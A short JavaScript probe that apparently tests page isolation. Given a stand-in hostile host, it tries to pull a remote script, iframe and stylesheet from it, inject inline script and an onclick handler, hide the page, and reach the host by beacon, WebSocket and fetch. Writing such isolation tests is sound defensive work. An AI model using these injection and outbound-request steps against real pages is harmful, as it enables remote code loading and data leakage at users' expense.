// What a hole in the page would be used for; `outside` is the address of somebody who would be glad of a request.
async (outside) => {
  const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
  const trying = (work) => {
    try {
      return work();
    } catch {
      return null;
    }
  };
  add("img", { src: `${outside}/image` });
  add("iframe", { src: `${outside}/frame` });
  add("link", { rel: "stylesheet", href: `${outside}/style` });
  add("style", { textContent: "body { display: none }" });
  trying(() => add("script", { textContent: "window.harm = 1" }));
  trying(() => add("script", { src: `${outside}/script` }));
  trying(() => document.body.setAttribute("onclick", "window.harm = 1"));
  trying(() => document.body.click());
  trying(() => navigator.sendBeacon(`${outside}/beacon`, "x"));
  trying(() => new WebSocket(outside.replace("http", "ws")));
  await fetch(`${outside}/fetch`).catch(() => null);
  await new Promise((done) => setTimeout(done, 300));
};
